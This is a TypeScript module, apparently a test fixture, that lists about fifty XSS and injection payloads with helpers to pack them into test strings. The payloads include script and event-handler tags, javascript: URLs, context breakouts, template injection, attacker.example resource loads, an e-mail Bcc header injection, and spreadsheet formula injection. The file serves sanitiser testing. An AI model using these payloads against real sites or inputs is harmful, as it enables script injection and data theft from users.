/** A text of an attacker. Each of them calls `alert` if a page takes it for more than a text. */
export const PAYLOADS: readonly string[] = [
  // Elements with scripts and event handlers.
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(2)</sCrIpT >',
  '<img src=x onerror=alert(3)>',
  '<svg onload=alert(4)>',
  '<svg><script>alert&lpar;5&rpar;',
  '<svg><animate onbegin=alert(6)>',
  '<body onload=alert(7)>',
  '<iframe srcdoc="<script>parent.alert(8)</script>">',
  '<details open ontoggle=alert(9)>',
  '<input autofocus onfocus=alert(10)>',
  '<video><source onerror=alert(11)>',
  '<a id=x tabindex=1 onfocus=alert(12)></a>',
  '<math><mtext></p><img src=x onerror=alert(13)>',
  '<object data="data:text/html,<script>alert(14)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(15)">',
  '<base href="//attacker.example/">',
  '<link rel=stylesheet href="//attacker.example/16.css">',
  '<form action="javascript:alert(17)"><button autofocus>x</button></form>',
  // Addresses.
  'javascript:alert(18)',
  'JaVaScRiPt:alert(19)//',
  'data:text/html,<script>alert(20)</script>',
  '//attacker.example/21',
  'vbscript:alert(22)',
  // Ways out of attributes, comments, templates, JSON, style sheets and addresses.
  '" autofocus onfocus=alert(23) x="',
  "' onmouseover='alert(24)",
  '"><img src=x onerror=alert(25)>',
  '</title><script>alert(26)</script>',
  '</textarea><svg onload=alert(27)>',
  '--><script>alert(28)</script>',
  ']]><script>alert(29)</script>',
  '</script><script>alert(30)</script>',
  '"}];alert(31);//',
  "');alert(32);//",
  '$' + '{alert(33)}',
  "{{constructor.constructor('alert(34)')()}}",
  '</style><script>alert(35)</script>',
  'x:expression(alert(36))',
  '*{background:url(//attacker.example/37)}',
  // Signs that look like others or are read as others.
  '＜script＞alert(38)＜/script＞',
  '\\u003cimg src=x onerror=alert(39)\\u003e',
  '&lt;img src=x onerror=alert(40)&gt;',
  '%3Cimg%20src=x%20onerror=alert(41)%3E',
  // Markdown, ids and names that a page may use, headers of e-mails, formulas.
  '[x](javascript:alert(42))',
  '![x](x" onerror="alert(43))',
  '<img name=cookie><form id=body>',
  '__proto__',
  'x%0d%0aBcc: all@attacker.example',
  '=HYPERLINK("javascript:alert(48)","x")',
  '+cmd|x!A1',
  // For many contexts at once.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(50) )//</stYle/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(50)//>',
];

/** Between payloads that share one text. */
const BETWEEN = ' ';

/**
 * Returns texts of at most this length that hold all payloads which fit: the first payload of each begins it, because addresses
 * and formulas are dangerous at the beginning of a text alone.
 */
export function textsOf(longest: number): string[] {
  const texts: string[] = [];
  const waiting = PAYLOADS.filter((payload) => payload.length <= longest);
  while (waiting.length > 0) {
    let text = waiting.shift() ?? '';
    for (let at = 0; at < waiting.length; ) {
      const more = `${text}${BETWEEN}${waiting[at]}`;
      if (more.length > longest || mustBegin(waiting[at] ?? '')) at += 1;
      else {
        text = more;
        waiting.splice(at, 1);
      }
    }
    texts.push(text);
  }
  return texts;
}

function mustBegin(payload: string): boolean {
  return /^(javascript:|data:|vbscript:|\/\/|=|\+|__proto__)/i.test(payload);
}

/** The payloads that a text holds. */
export function payloadsIn(text: string): string[] {
  return PAYLOADS.filter((payload) => text.includes(payload));
}
